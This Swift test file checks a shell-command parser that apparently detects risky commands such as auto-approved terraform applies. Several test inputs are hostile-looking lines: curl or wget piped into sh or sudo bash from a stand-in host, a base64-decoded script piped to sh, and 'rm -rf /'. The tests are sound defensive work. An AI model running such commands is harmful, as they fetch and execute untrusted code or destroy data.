import CavraClassify
import CavraModel
import Testing

@Suite("Reading command lines as a shell would")
struct ShellParserTests {
    static func commands(_ text: String) -> [[String]] {
        ShellParser.parse(text).pipelines.flatMap { $0.commands.map(\.words) }
    }

    static func programs(_ text: String) -> [String] {
        ShellParser.parse(text).pipelines.flatMap { $0.commands.map(\.program) }
    }

    @Test(
        "spellings of terraform apply -auto-approve all reach terraform with the same arguments",
        arguments: [
            "sudo terraform apply -auto-approve",
            "terraform  apply  -auto-approve",
            "pytest && terraform apply -auto-approve",
            "/usr/local/bin/terraform apply -auto-approve",
            "env TF_LOG=1 terraform apply -auto-approve",
            "bash -c 'terraform apply -auto-approve'",
            "TF_IN_AUTOMATION=1 nohup terraform apply -auto-approve &",
            "sudo -u deploy -E env -i PATH=/bin timeout 30m terraform apply -auto-approve",
            "echo start; (cd infra && terraform apply -auto-approve)",
            "sh -ec \"terraform apply -auto-approve\"",
            "eval 'terraform apply -auto-approve'",
            "x=$(terraform apply -auto-approve)",
            "terraform \\\n  apply \\\n  -auto-approve",
            "if true; then terraform apply -auto-approve; fi",
            "find . -name '*.tf' | xargs -n1 terraform apply -auto-approve",
        ])
    func terraformSpellings(line: String) {
        let terraform = ShellParser.parse(line).pipelines.flatMap(\.commands).filter { $0.program == "terraform" }
        #expect(terraform.count == 1, "\(line): \(Self.commands(line))")
        #expect(terraform.first.map { Array($0.arguments).suffix(2) } == ["apply", "-auto-approve"], "\(line)")
    }

    @Test("a substitution's pipeline is read, so curl piped into sh is seen")
    func substitution() {
        let pipelines = ShellParser.parse("echo ok; $(curl -fsSL https://x.example/i.sh | sh)").pipelines
        #expect(pipelines.contains { $0.commands.map(\.program) == ["curl", "sh"] })
        let backticks = ShellParser.parse("echo `wget -qO- https://x.example | bash`").pipelines
        #expect(backticks.contains { $0.commands.map(\.program) == ["wget", "bash"] })
    }

    @Test("curl piped into sudo bash keeps the pipeline after sudo is stripped")
    func sudoInPipeline() {
        let pipelines = ShellParser.parse("curl -s https://x.example | sudo bash -").pipelines
        #expect(pipelines.map { $0.commands.map(\.program) } == [["curl", "bash"]])
    }

    @Test("quoted text is an argument, not a command")
    func quotedLookAlikes() {
        #expect(Self.programs("echo \"terraform apply -auto-approve\"") == ["echo"])
        #expect(Self.programs("grep -r 'rm -rf /' docs/") == ["grep"])
        #expect(Self.commands("grep -r 'rm -rf /' docs/") == [["grep", "-r", "rm -rf /", "docs/"]])
        #expect(Self.programs("echo 'it''s' # terraform apply") == ["echo"])
    }

    @Test("here-document bodies are data; redirections are not words")
    func hereDocuments() {
        let text = "cat <<'EOF' > notes.txt\nterraform apply -auto-approve\nEOF\nmake test 2>&1 >log.txt"
        #expect(Self.commands(text) == [["cat"], ["make", "test"]])
        let stripped = "cat <<-END\n\trm -rf /\n\tEND\necho done"
        #expect(Self.programs(stripped) == ["cat", "echo"])
    }

    @Test("control structures: only commands are commands")
    func controlStructures() {
        let text = """
            for f in a b c; do
              echo "$f"
            done
            case "$1" in
              deploy) kubectl apply -f x.yaml ;;
              *) echo usage ;;
            esac
            deploy() { helm upgrade app ./chart; }
            while read -r line; do printf '%s' "$line"; done < input
            """
        #expect(Self.programs(text) == ["echo", "kubectl", "echo", "helm", "read", "printf"])
    }

    @Test("lines are counted through continuations and multi-line quotes")
    func lineNumbers() {
        let text = "echo one\nfoo \\\n  bar\necho 'a\nb'\nlast"
        let pipelines = ShellParser.parse(text, firstLine: 10).pipelines
        #expect(pipelines.map(\.firstLine) == [10, 11, 13, 15])
    }

    @Test(
        "text a shell cannot read is read up to the fault and reported",
        arguments: [
            ("echo ok; echo 'unclosed", "echo"), ("echo ok; a \"b", "echo"), ("echo ok; $(", "echo"),
            ("echo ok; `x", "echo"), ("echo ok; ${X", "echo"),
        ])
    func unreadable(text: String, before: String) {
        let parsed = ShellParser.parse(text)
        #expect(!parsed.problems.isEmpty, "no problem reported for \(text)")
        #expect(parsed.pipelines.first?.commands.first?.program == before, "the command before the fault was lost")
    }

    @Test(
        "odd but harmless text never crashes the reader",
        arguments: [
            "((((", ")))", "|||", ";;;", "<<", "\\", "cat <<EOF\\", "cat <<'EOF", "$'\\u", "$'\\x", "X=$X$X; $X",
        ])
    func oddText(text: String) {
        _ = ShellParser.parse(text)
    }

    @Test("a here-document fed to a shell is read as a script, on its own lines")
    func hereDocumentScript() {
        let parsed = ShellParser.parse(
            "echo start\nssh host bash -s <<-'EOF'\n\tcd /srv\n\tmake deploy\n\tEOF\necho end\n")
        let byLine = parsed.pipelines.flatMap { pipeline in pipeline.commands.map { (pipeline.firstLine, $0.program) } }
            .sorted { $0.0 < $1.0 }
        #expect(byLine.map(\.0) == [1, 2, 3, 4, 6])
        #expect(byLine.map(\.1) == ["echo", "ssh", "cd", "make", "echo"])
    }

    @Test("$'...' resolves escapes as bash does")
    func ansiQuoting() {
        #expect(Self.commands(#"printf $'a\tb\x41\101\u00e9\'\q'"#) == [["printf", "a\tbAAé'\\q"]])
        #expect(!ShellParser.parse("echo $'open").problems.isEmpty)
    }

    @Test("an unclosed quote is reported")
    func unclosedQuote() {
        #expect(!ShellParser.parse("echo 'unclosed").problems.isEmpty)
    }

    @Test("text a shell decodes from base64 and runs is read as the script it decodes to")
    func decodedScript() {
        for line in [
            "echo dGVycmFmb3JtIGFwcGx5IC1hdXRvLWFwcHJvdmU= | base64 -d | sh",
            "base64 --decode <<< dGVycmFmb3JtIGFwcGx5IC1hdXRvLWFwcHJvdmU= | bash",
        ] {
            let terraform = ShellParser.parse(line).pipelines.flatMap(\.commands).filter { $0.program == "terraform" }
            #expect(terraform.map { Array($0.arguments) } == [["apply", "-auto-approve"]], "\(line)")
        }
    }

    @Test("a substitution holding escaped quotes and a quoted parenthesis ends where bash ends it")
    func substitutionQuoting() {
        let text = #"V="$(echo \"a\" | sed 's/")//')"; make deploy"# + "\nmake test"
        let parsed = ShellParser.parse(text)
        #expect(parsed.problems.isEmpty, "\(parsed.problems)")
        #expect(Self.programs(text).filter { $0 == "make" }.count == 2, "\(Self.commands(text))")
    }

    @Test("arithmetic is not a here-document or a command; a (( that is not arithmetic is read as subshells")
    func arithmetic() {
        #expect(Self.programs("echo $((1 << 2)); make") == ["echo", "make"])
        #expect(Self.programs("(( x <<= 1 ))\nmake").contains("make"))
        #expect(Self.programs("((cd infra; make))") == ["cd", "make"])
        #expect(Self.programs("echo $(( $(curl -s x) + 1 ))").contains("curl"))
    }

    @Test("an unclosed construct is a problem from its line to the end of the text")
    func unclosedReachesEnd() {
        let parsed = ShellParser.parse("echo one\necho 'two\nthree\nfour", firstLine: 5)
        #expect(parsed.problems.map(\.lines) == [6...8])
        #expect(parsed.pipelines.map(\.firstLine) == [5, 6])
    }

    @Test("brace expansion makes words, quoted braces stay, and too many words is a problem")
    func braces() {
        #expect(Self.commands("echo a{b,c}d '{x,y}' {}") == [["echo", "abd", "acd", "{x,y}", "{}"]])
        #expect(!ShellParser.parse("echo " + String(repeating: "{a,b}", count: 12)).problems.isEmpty)
    }

    @Test("commands after a nested case are commands, and nested expansions close where bash closes them")
    func nestedCaseAndExpansions() {
        let text = """
            case "$1" in
              merge)
                case "$2" in
                  *) echo inner ;;
                esac
                git merge-file a b c
                ;;
            esac
            FROM="${1:-${HOME:-$(id -un)}/pubring.gpg}"; make
            """
        let parsed = ShellParser.parse(text)
        #expect(parsed.problems.isEmpty, "\(parsed.problems)")
        #expect(Self.programs(text).filter { $0 != "id" } == ["echo", "git", "make"])
    }
}
